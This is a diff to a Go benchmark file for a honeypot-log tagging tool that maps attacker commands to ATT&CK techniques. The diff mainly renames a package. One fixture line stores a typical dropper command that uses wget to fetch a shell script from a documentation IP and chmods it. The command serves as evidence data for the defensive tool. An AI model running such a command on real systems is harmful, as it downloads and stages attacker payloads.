@@ -8,7 +8,7 @@ import (
 	"testing"
 	"time"
 
-	"ttpctl/internal/engine"
+	"ttpctl/internal/event"
 )
 
 // batch is how many tags the benchmarks insert in a transaction.
@@ -16,18 +16,18 @@ const batch = 5000
 
 // someTags returns n tags, numbered from first, of the shape that a Cowrie log
 // gives: no identity, a session of about 12 tags, 200 attackers.
-func someTags(first, n int) []engine.Tag {
-	tags := make([]engine.Tag, n)
+func someTags(first, n int) []event.Tag {
+	tags := make([]event.Tag, n)
 	for i := range tags {
 		id := first + i
 		source := fmt.Sprintf("cmd_%08d", id)
 		technique := fmt.Sprintf("T%04d", 1000+id%60)
 		rule := fmt.Sprintf("R%04d", id%62)
-		tags[i] = engine.Tag{
-			UUID:       engine.TagUUID("command", source, rule, 1, technique, technique+".001"),
+		tags[i] = event.Tag{
+			UUID:       event.TagUUID("command", source, rule, 1, technique, technique+".001"),
 			SourceKind: "command", SourceID: source,
 			AttackerUUID: fmt.Sprintf("3a90f681-a007-5d06-8036-%012d", id/12%200),
-			SessionID:    engine.Some(fmt.Sprintf("session-%d", id/12)), DeckyID: engine.Some("decky-1"),
+			SessionID:    event.Some(fmt.Sprintf("session-%d", id/12)), DeckyID: event.Some("decky-1"),
 			Tactic: "TA0002", Technique: technique, SubTechnique: technique + ".001", Confidence: 0.85,
 			RuleID: rule, RuleVersion: 1,
 			Evidence:      []byte(`{"command_text":"cd /tmp || cd /var/run; wget http://203.0.113.9/bins.sh; chmod 777 bins.sh","matched":"wget http"}`),
@@ -38,7 +38,7 @@ func someTags(first, n int) []engine.Tag {
 	return tags
 }
 
-func benchmarkInsert(b *testing.B, insert func(db *DB, tags []engine.Tag) error, replay bool) {
+func benchmarkInsert(b *testing.B, insert func(db *DB, tags []event.Tag) error, replay bool) {
 	db, err := OpenDB(b.Context(), filepath.Join(b.TempDir(), "bench.db"), DBOptions{Now: time.Now})
 	if err != nil {
 		b.Fatal(err)
@@ -80,14 +80,14 @@ func cpuTime(b *testing.B) time.Duration {
 	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
 }
 
-func insertOurs(db *DB, tags []engine.Tag) error {
+func insertOurs(db *DB, tags []event.Tag) error {
 	_, err := db.Tags().Insert(db.tail.ctx, tags)
 	return err
 }
 
 // insertBare is the same driver with the same table and statement, and none of
 // our code: the measure that Insert must come near.
-func insertBare(db *DB, tags []engine.Tag) error {
+func insertBare(db *DB, tags []event.Tag) error {
 	tx, err := db.writer.Begin()
 	if err != nil {
 		return err
